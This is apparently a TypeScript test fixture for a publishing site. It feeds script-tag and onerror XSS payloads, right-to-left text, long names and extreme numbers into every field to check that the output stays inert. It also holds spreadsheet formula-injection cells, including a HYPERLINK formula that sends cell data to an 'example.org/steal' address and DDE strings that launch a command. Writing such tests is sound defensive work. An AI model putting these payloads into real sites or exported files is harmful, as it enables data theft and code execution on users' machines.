/**
 * A fixture site whose every text field holds markup, script, right-to-left text or very long words, and whose
 * numbers are huge or negative: all valid input that must come out as inert text, without a crash.
 */
import { makeFixture } from '../helpers/build.ts';
import { withDemoData } from '../editorial/fixture.ts';

/**
 * Markup an attacker could put in any text field. Formatting pasted from a web page (<b>, <em>, <br>) is refused in a
 * title or summary before the build (tests/lib/preflight-prose.test.ts); these elements are let through there as
 * possibly meant (a story about the <script> element) and must come out as text.
 */
export const payload = (field: string) =>
  `<script>alert("${field}")</script><img src=x onerror="alert('${field}')"><marquee>${field}</marquee> & co`;

/** Cells of a dataset's text column, and its number column beside them, for the CSV download. */
export const formulaRows: [string, number][] = [
  ['=HYPERLINK("https://example.org/steal?d="&A1,"Details")', 1],
  ["+cmd|' /C calc'!A0", -2],
  ['-2+3', -40.5],
  ["@SUM(1+1)*cmd|' /C calc'!A0", 0],
  ['\t=1+1', 3],
  ['-12.5', 4],
  ['+7', 5],
  ['Plain text = fine', 6],
];

export const rtl = { arabic: 'محمد عبد الله', hebrew: 'פרשת ההודעה האדומה' };
export const longName = `Abdulrahman${'-Al'.repeat(80)}-Longname`;

export function hostileFixture(): ReturnType<typeof makeFixture> {
  const fixture = makeFixture({ copyDemo: false });
  const { write } = fixture;
  withDemoData(fixture, {
    'hostile-source': {
      publisher: payload('publisher'),
      title: payload('source-title'),
      url: 'https://example.org/report?a=1&b=<2>',
      date: '2025',
      kind: 'news',
      note: payload('source-note'),
    },
  });
  write(
    'data/extremes.json',
    JSON.stringify({
      title: payload('dataset-title'),
      description: payload('dataset-description'),
      sources: ['hostile-source'],
      license: payload('license'),
      updated: '2026-02-01',
      columns: {
        label: { type: 'string', description: payload('column-description'), label: payload('column-label') },
        value: { type: 'number', unit: payload('unit'), description: 'Value' },
        country: { type: 'string', ref: 'country', description: 'Country' },
      },
      rows: [
        { label: payload('row-value'), value: 1e308, country: 'RU' },
        { label: rtl.arabic, value: -42.5, country: 'TR' },
        { label: longName, value: 0, country: null },
        { label: 'gap', value: null, country: 'RU' },
      ],
      notes: [payload('dataset-note')],
      corrections: [{ date: '2026-03-01', text: payload('dataset-correction') }],
    }),
  );
  // Cells a spreadsheet would run as formulas when it opens the CSV download (formula injection), beside text and
  // numbers that only look like them.
  write(
    'data/formulas.json',
    JSON.stringify({
      title: 'Cells that read as formulas',
      description: 'Text a spreadsheet would run, and numbers that must stay numbers.',
      sources: ['hostile-source'],
      license: 'CC0',
      updated: '2026-02-01',
      columns: {
        label: { type: 'string', description: 'Label' },
        value: { type: 'number', description: 'Value' },
      },
      rows: formulaRows.map(([label, value]) => ({ label, value })),
    }),
  );
  const frontmatter = (fields: Record<string, unknown>) =>
    `---\n${Object.entries(fields)
      .map(([k, v]) => `${k}: ${JSON.stringify(v)}`)
      .join('\n')}\n---\n`;
  write(
    'content/stories/hostile.mdx',
    `${frontmatter({
      title: payload('story-title'),
      summary: payload('story-summary'),
      date: '2026-01-10',
      authors: [payload('author'), rtl.hebrew, longName],
      countries: ['RU', 'TR'],
      tags: ['hostile'],
      datasets: ['extremes', 'formulas'],
      corrections: [{ date: '2026-02-01', text: payload('story-correction') }],
    })}
Huge: <Fact dataset="extremes" row="gap" column="country" />, <Fact dataset="extremes" row="${rtl.arabic}" column="value" /> <Cite id="hostile-source" />.

<Chart dataset="extremes" type="bar" x="label" y="value" title="Extremes" />

<Response from="${rtl.hebrew}" date="2026-01-26">A reply.</Response>
`,
  );
  write(
    'content/stories/rtl.mdx',
    `${frontmatter({ title: rtl.hebrew, summary: rtl.arabic, date: '2026-01-11', authors: [rtl.arabic], countries: ['IL'], lang: undefined })}
${rtl.arabic} — ${rtl.hebrew}. ${longName} <Cite id="hostile-source" />.
`.replace('lang: undefined\n', ''),
  );
  write(
    'content/cases/long-name.mdx',
    `${frontmatter({
      title: longName,
      summary: payload('case-summary'),
      subject: payload('case-subject'),
      country: 'RU',
      status: 'active',
      notice: 'red-notice',
      date: '2025-12-01',
    })}
Case prose about ${rtl.arabic} <Cite id="hostile-source" />.
`,
  );
  return fixture;
}
